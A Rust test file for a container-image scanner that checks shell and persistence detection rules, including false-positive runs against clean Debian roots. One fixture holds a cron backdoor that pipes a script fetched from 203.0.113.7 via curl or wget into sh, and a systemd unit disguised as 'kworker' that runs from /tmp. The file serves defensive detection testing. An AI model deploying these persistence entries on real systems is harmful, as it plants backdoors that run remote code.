//! The shell checks and the persistence analyzers through the public scan API.
//!
//! - Every case of `tests/persistence/cases.txt` (samples that must match and near misses
//!   that must not, per rule; `near *` for benign scripts that must give nothing) goes into
//!   its own layer of one image, so each finding is told apart by layer.
//! - Every `shell-*` and `persistence-*` rule in `docs/detection.md` has cases both ways.
//! - A cron.d backdoor deleted in a later layer, and a systemd unit running `/tmp/.x/kworker`,
//!   are found end to end with their layers.
//! - False positives: every file of the clean Debian roots (`customs_test_support::real_inputs::clean_roots`)
//!   gives no finding of these rules at medium or above.

use std::collections::{BTreeMap, BTreeSet};

use customs_analyze::{Analyzers, ScanOptions, ScanOutcome, scan_image};
use customs_core::{Finding, Severity};
use customs_image::walk::NoProgress;
use customs_image::{Image, OpenOptions, Target, open};
use customs_test_support::fixtures::{Entry, ImageSpec, LayerSpec, write_oci_layout};

fn ours(rule: &str) -> bool {
    rule.starts_with("shell-") || rule.starts_with("persistence-")
}

struct Case {
    line: usize,
    must_match: bool,
    rule: String,
    path: String,
    text: String,
}

fn cases() -> Vec<Case> {
    let src = include_str!("persistence/cases.txt");
    let mut out: Vec<Case> = Vec::new();
    for (n, line) in src.lines().enumerate() {
        if let Some(head) = line.strip_prefix("=== ") {
            let mut parts = head.split_whitespace();
            let kind = parts.next().expect("case kind");
            assert!(
                kind == "match" || kind == "near",
                "cases.txt:{}: `{kind}` is neither match nor near",
                n + 1
            );
            let rule = parts.next().expect("case rule").to_string();
            let path = parts
                .next()
                .map_or_else(|| format!("cases/{}.sh", out.len()), String::from);
            out.push(Case {
                line: n + 1,
                must_match: kind == "match",
                rule,
                path,
                text: String::new(),
            });
        } else if let Some(c) = out.last_mut() {
            c.text.push_str(line);
            c.text.push('\n');
        }
    }
    for c in &mut out {
        let trimmed = c.text.trim_end().to_string();
        c.text = if c.path.starts_with("cases/") {
            format!("#!/bin/sh\n{trimmed}\n")
        } else {
            format!("{trimmed}\n")
        };
    }
    out
}

fn scan_layers(layers: Vec<LayerSpec>) -> (Image, ScanOutcome, tempfile::TempDir) {
    let spec = ImageSpec::new(layers);
    let dir = tempfile::tempdir().unwrap();
    write_oci_layout(dir.path(), &[("latest", &spec)]).unwrap();
    let target = Target::Oci {
        path: dir.path().to_path_buf(),
        tag: None,
    };
    let image = open(&target, &OpenOptions::default()).unwrap().remove(0);
    let analyzers = Analyzers::builtin().unwrap();
    let outcome = scan_image(&image, &analyzers, &ScanOptions::default(), &NoProgress);
    assert!(outcome.errors.is_empty(), "{:?}", outcome.errors);
    (image, outcome, dir)
}

#[test]
fn every_case_matches_or_misses_as_written() {
    let cases = cases();
    assert!(cases.len() > 50, "only {} cases read", cases.len());
    let layers = cases
        .iter()
        .map(|c| LayerSpec::new(vec![Entry::exec(c.path.clone(), c.text.clone())]))
        .collect();
    let (image, outcome, _dir) = scan_layers(layers);
    let mut by_case: BTreeMap<usize, Vec<&Finding>> = BTreeMap::new();
    for f in outcome.findings.iter().filter(|f| ours(&f.rule)) {
        let layer = image
            .layers
            .iter()
            .position(|l| Some(&l.id) == f.layer.as_ref())
            .expect("finding names a layer of the image");
        by_case.entry(layer).or_default().push(f);
        assert!(
            f.evidence.len() <= 400 && !f.evidence.chars().any(char::is_control),
            "evidence not short and printable: {:?}",
            f.evidence
        );
    }
    let mut failures = Vec::new();
    for (i, c) in cases.iter().enumerate() {
        let got = by_case.get(&i).map(Vec::as_slice).unwrap_or_default();
        let hit = got.iter().any(|f| {
            (c.rule == "*" || f.rule == c.rule) && f.path.as_deref() == Some(c.path.as_str())
        });
        if hit != c.must_match {
            let got: Vec<String> = got
                .iter()
                .map(|f| format!("{} ({})", f.rule, f.evidence))
                .collect();
            failures.push(format!(
                "cases.txt:{}: {} {} on {}: got {:?}",
                c.line,
                if c.must_match {
                    "missed"
                } else {
                    "wrongly matched"
                },
                c.rule,
                c.path,
                got
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn every_rule_has_a_match_and_a_near_miss() {
    let docs = include_str!("../../../docs/detection.md");
    let documented: BTreeSet<&str> = docs
        .lines()
        .filter_map(|l| l.strip_prefix("| `"))
        .filter_map(|l| l.split('`').next())
        .filter(|r| ours(r))
        .collect();
    assert!(documented.len() >= 18, "rules in docs: {documented:?}");
    let cases = cases();
    for rule in &documented {
        for must_match in [true, false] {
            assert!(
                cases
                    .iter()
                    .any(|c| c.rule == *rule && c.must_match == must_match),
                "{rule} has no {} case",
                if must_match { "match" } else { "near" }
            );
        }
    }
    for c in cases.iter().filter(|c| c.rule != "*") {
        assert!(
            documented.contains(c.rule.as_str()),
            "cases.txt:{}: {} is not in docs/detection.md",
            c.line,
            c.rule
        );
    }
}

#[test]
fn deleted_cron_backdoor_and_tmp_unit_are_found_with_their_layers() {
    let cron = "*/10 * * * * root (curl -fsSL http://203.0.113.7/cr.sh || wget -q -O- http://203.0.113.7/cr.sh) | sh\n";
    let unit = "[Unit]\nDescription=Kernel worker\n\n[Service]\nExecStart=/tmp/.x/kworker\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n";
    let layers = vec![
        LayerSpec::new(vec![
            Entry::dir("etc"),
            Entry::dir("etc/cron.d"),
            Entry::file(
                "etc/cron.d/e2scrub_all",
                "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
            ),
            Entry::file("etc/cron.d/sync", cron),
        ]),
        LayerSpec::new(vec![
            Entry::dir("etc/systemd/system"),
            Entry::file("etc/systemd/system/kworker.service", unit),
            Entry::symlink(
                "etc/systemd/system/multi-user.target.wants/kworker.service",
                "/etc/systemd/system/kworker.service",
            ),
        ]),
        LayerSpec::new(vec![Entry::Whiteout("etc/cron.d/sync".into())]),
    ];
    let (image, outcome, _dir) = scan_layers(layers);
    let find = |rule: &str| -> Vec<&Finding> {
        outcome.findings.iter().filter(|f| f.rule == rule).collect()
    };
    let cron = find("persistence-cron");
    assert_eq!(cron.len(), 1, "{:#?}", outcome.findings);
    assert_eq!(cron[0].path.as_deref(), Some("etc/cron.d/sync"));
    assert_eq!(cron[0].layer.as_ref(), Some(&image.layers[0].id));
    assert_eq!(cron[0].deleted_in.as_ref(), Some(&image.layers[2].id));
    assert_eq!(cron[0].severity, Severity::High);
    assert!(cron[0].attack.contains(&"T1053.003".to_string()));
    assert!(
        cron[0]
            .evidence
            .starts_with("cron entry line 1: */10 * * * * root")
    );
    assert!(cron[0].evidence.contains("shell-download-exec"));
    let exec = find("shell-download-exec");
    assert_eq!(exec.len(), 1, "{exec:#?}");
    assert_eq!(exec[0].deleted_in.as_ref(), Some(&image.layers[2].id));

    let unit = find("persistence-systemd-service");
    assert_eq!(unit.len(), 1, "{:#?}", outcome.findings);
    assert_eq!(
        unit[0].path.as_deref(),
        Some("etc/systemd/system/kworker.service")
    );
    assert_eq!(unit[0].layer.as_ref(), Some(&image.layers[1].id));
    assert_eq!(unit[0].deleted_in, None);
    assert!(unit[0].attack.contains(&"T1543.002".to_string()));
    assert!(
        unit[0]
            .evidence
            .contains("/tmp/.x/kworker runs from a temporary directory")
    );
    // The clean Debian cron job next to the backdoor gives nothing.
    assert!(
        !outcome
            .findings
            .iter()
            .any(|f| ours(&f.rule) && f.path.as_deref() == Some("etc/cron.d/e2scrub_all"))
    );
}

/// Scans every file of each clean Debian root filesystem and lists what our
/// rules say about it; fails on anything at medium or above.
#[test]
fn clean_debian_rootfs_gives_nothing_at_medium_or_above() {
    let analyzers = Analyzers::builtin().unwrap();
    for root in customs_test_support::real_inputs::clean_roots() {
        let target = Target::Dir { path: root.clone() };
        let image = open(&target, &OpenOptions::default()).unwrap().remove(0);
        let outcome = scan_image(&image, &analyzers, &ScanOptions::default(), &NoProgress);
        assert!(outcome.errors.is_empty(), "{:?}", outcome.errors);
        let mine: Vec<&Finding> = outcome.findings.iter().filter(|f| ours(&f.rule)).collect();
        eprintln!(
            "{}: {} files, {} shell/persistence findings",
            root.display(),
            outcome.coverage.files,
            mine.len()
        );
        for f in &mine {
            eprintln!(
                "  {} {} {} {}",
                f.severity,
                f.rule,
                f.path.as_deref().unwrap_or("-"),
                f.evidence
            );
        }
        assert!(
            outcome.coverage.files > 1000,
            "only {} files read",
            outcome.coverage.files
        );
        let serious: Vec<String> = mine
            .iter()
            .filter(|f| f.severity >= Severity::Medium)
            .map(|f| format!("{} {:?} {}", f.rule, f.path, f.evidence))
            .collect();
        assert!(
            serious.is_empty(),
            "{}: false positives at medium+:\n{}",
            root.display(),
            serious.join("\n")
        );
    }
}
